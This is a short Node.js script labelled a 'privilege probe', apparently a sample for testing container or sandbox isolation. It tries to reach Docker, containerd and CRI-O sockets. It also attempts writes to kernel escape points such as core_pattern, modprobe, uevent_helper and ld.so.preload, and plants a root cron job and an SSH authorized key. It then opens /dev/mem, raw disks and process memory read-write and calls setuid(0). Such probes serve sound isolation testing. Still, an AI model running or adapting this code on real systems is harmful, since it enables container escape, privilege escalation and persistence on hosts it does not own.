// class: privilege probe; possible: low medium; style: engine sockets, host devices, kernel settings
const fs = require("fs");
const net = require("net");
for (const p of ["/var/run/docker.sock", "/run/containerd/containerd.sock", "/run/crio/crio.sock", "/run/dbus/system_bus_socket"])
  net.connect(p, function () { this.write("GET /containers/json HTTP/1.0\r\n\r\n"); }).on("error", (e) => console.log(p, e.code));
for (const [p, text] of [
  ["/proc/sys/kernel/core_pattern", "|/tmp/run"],
  ["/proc/sys/kernel/modprobe", "/tmp/mod"],
  ["/proc/sys/vm/overcommit_memory", "1"],
  ["/sys/kernel/uevent_helper", "/tmp/u"],
  ["/etc/ld.so.preload", "/tmp/l.so"],
  ["/etc/cron.d/node", "* * * * * root id\n"],
  ["/root/.ssh/authorized_keys", "ssh-ed25519 AAAA x\n"],
])
  try { fs.writeFileSync(p, text); console.log("wrote", p); } catch (e) { console.log(p, e.code); }
for (const d of ["/dev/mem", "/dev/kmsg", "/dev/sda", "/proc/kcore", "/proc/1/mem", "/proc/kallsyms"])
  try { fs.closeSync(fs.openSync(d, "r+")); console.log("open", d); } catch (e) { console.log(d, e.code); }
try { process.setuid(0); } catch (e) { console.log(e.code); }
setTimeout(() => process.exit(0), 2000);
